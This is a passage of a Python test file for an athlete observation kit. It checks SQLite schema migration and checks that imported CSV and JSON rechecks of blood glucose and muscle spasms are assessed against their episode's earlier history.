    p = tmp_path / "v2.sqlite"
    db = sqlite3.connect(p, isolation_level=None)
    db.execute("CREATE TABLE schema_version (version INTEGER PRIMARY KEY, description TEXT NOT NULL, applied_at TEXT NOT NULL, "
               "kit_version TEXT NOT NULL)")
    for v in (1, 2):
        MIGRATIONS[v][1](db)
        db.execute("INSERT INTO schema_version VALUES (?, 'old', '2026-01-01T00:00:00+00:00', '0.1.0')", (v,))
    db.execute("INSERT INTO observations (athlete_id, observed_at, observed_sort, observation_json, assessment_json, escalation, "
               "kit_version, saved_at) VALUES ('OLD', '2026-01-01T00:00:00', '2026-01-01T00:00:00.000000', "
               "'{\"athlete_id\":\"OLD\",\"observed_at\":\"2026-01-01T00:00:00\"}', '{\"escalation\":\"monitor\"}', 'monitor', "
               "'0.0.1', 'x')")
    db.close()
    r = kit("log", "list", "--store", str(p))
    assert r.returncode == 0 and "OLD" in r.stdout and " 0.1 " in r.stdout, r.stderr
    with Store(p, read_only=True) as st:
        assert st.schema_version() == SCHEMA_VERSION


def test_imported_rechecks_get_their_episode_as_history_from_the_store_and_the_file(tmp_path, monkeypatch):
    """The second pass of a CSV import: each recheck with the episode's stored entries and the earlier rows of the file."""
    import kit.engine.assessment
    from kit.store.transfer import _assess_episodes

    real = kit.engine.assessment.assess
    seen = {}

    def assess(observation, history=None):
        seen[observation["observed_at"]] = [h["observed_at"] for h in history or []]
        if observation.get("notes") == "overflow":
            raise OverflowError("a stand-in for a number the engine cannot take")
        return real({k: v for k, v in observation.items() if k != "episode_id"})

    monkeypatch.setattr(kit.engine.assessment, "assess", assess)
    stored = [{"athlete_id": "A", "observed_at": "2026-05-01T16:00:00", "episode_id": "E1"},
              {"athlete_id": "A", "observed_at": "2026-05-01T18:00:00", "episode_id": "E1"}]  # later: not history
    recs = [{"athlete_id": "A", "observed_at": f"2026-05-01T16:{m:02d}:00", "episode_id": "E1", "tremor": True} for m in (15, 30, 45)]
    done = _assess_episodes([("E1", list(stored), [(seq, seq + 1, r) for seq, r in enumerate(recs, start=1)])])
    assert [(seq, line) for seq, line, _, _ in done] == [(1, 2), (2, 3), (3, 4)] and all(row is not None for _, _, row, _ in done)
    assert seen["2026-05-01T16:15:00"] == ["2026-05-01T16:00:00"]
    assert seen["2026-05-01T16:30:00"] == ["2026-05-01T16:00:00", "2026-05-01T16:15:00"]
    assert seen["2026-05-01T16:45:00"] == ["2026-05-01T16:00:00", "2026-05-01T16:15:00", "2026-05-01T16:30:00"]
    seen.clear()  # a row that cannot be assessed is bad (its line named) and is not the history of the later rows
    recs[1]["notes"] = "overflow"  # (a stored entry after the rows: not in time order, so assessed row by row)
    done = _assess_episodes([("E1", [stored[1]], [(seq, seq + 1, r) for seq, r in enumerate(recs, start=1)])])
    assert [row is None for _, _, row, _ in done] == [False, True, False] and done[1][3][0].row == 3
    assert seen["2026-05-01T16:45:00"] == ["2026-05-01T16:15:00"]
    del recs[1]["notes"]
    seen.clear()
    with Store(tmp_path / "s.sqlite") as st:
        st.save(stored[0])
        (tmp_path / "e.json").write_text(json.dumps(recs), encoding="utf-8")
        st.import_json(tmp_path / "e.json")
    assert seen["2026-05-01T16:45:00"] == ["2026-05-01T16:00:00", "2026-05-01T16:15:00", "2026-05-01T16:30:00"]


@needs_v02
@pytest.mark.parametrize("chunk_rows", [1, 1000])
def test_csv_import_of_rechecks_stores_what_assess_with_the_episode_history_gives(tmp_path, chunk_rows):
    """Each imported recheck: assess(obs, history=its episode's entries stored or earlier in the file, observed before it).

    E1 is in time order (assessed with the other in-order episodes by the vectorised engine; its summary is
    stored and its detail computed when shown), E2 is not (row by row, the full assessment stored); both give
    what ``assess`` with the history gives.
    """
    from kit.engine.assessment import assess

    src = tmp_path / "e.csv"
    src.write_text("athlete_id,observed_at,episode_id,blood_glucose,blood_glucose_unit,treatment_given,spasm,spasm_duration_min\n"
                   "A,2026-05-01T16:28:00,E1,60,mg/dL,oral_carbohydrate,,\nA,2026-05-01T16:43:00,E1,62,mg/dL,oral_carbohydrate,,\n"
                   "B,2026-05-01T17:30:00,E2,,,stretch,true,20\nA,2026-05-01T16:58:00,E1,64,mg/dL,,,\n"
                   "B,2026-05-01T17:10:00,E2,,,,true,15\nB,2026-05-01T17:50:00,E2,,,,true,\n"
                   "C,2026-05-01T15:20:00,E3,,,stretch,true,\nC,2026-05-01T15:40:00,E3,,,,true,\n", encoding="utf-8")
    with Store(tmp_path / "s.sqlite") as st:
        st.save({"athlete_id": "B", "observed_at": "2026-05-01T17:00:00", "episode_id": "E2", "spasm": True, "spasm_duration_min": 10})
        st.save({"athlete_id": "C", "observed_at": "2026-05-01T15:00:00", "episode_id": "E3", "spasm": True, "spasm_duration_min": 30})
        st.import_csv(src, chunk_rows=chunk_rows)
        entries = st.entries()
        details = {e["id"]: st.assessment_detail(e["id"]) for e in entries}
    assert [e["episode_id"] for e in entries].count("E1") == 3 and [e["episode_id"] for e in entries].count("E2") == 4
    for e in entries:
        if e["source"] != "import:e.csv":
            continue
        obs = e["observation"]
        earlier = [x["observation"] for x in entries if x["episode_id"] == e["episode_id"] and x["id"] < e["id"]
                   and x["observation"]["observed_at"] < obs["observed_at"]]  # stored or earlier in the file, observed before
        want = (assess(obs, history=earlier) if earlier else assess(obs)).to_dict()
        assert details[e["id"]] == want, obs["observed_at"]
        stored = e["assessment"]
        assert (stored["escalation"], stored["top_cause"], sorted(stored["flags"]), stored["trend"]) == (
            want["escalation"], want["top_cause"], sorted(want["flags"]), want["trend"]), obs["observed_at"]
        assert (stored.get("stored") == "assess_frame") == (e["episode_id"] in ("E1", "E3")), obs["observed_at"]
    assert [e["assessment"]["trend"] != "first" for e in entries if e["episode_id"] == "E1"] == [False, True, True]
    # E3: a stored entry (30 min of spasm) then two file rows: K4 adds the minutes since it, a stored entry is history too
    assert [e["assessment"]["escalation"] for e in entries if e["episode_id"] == "E3"][-1] == "emergency"
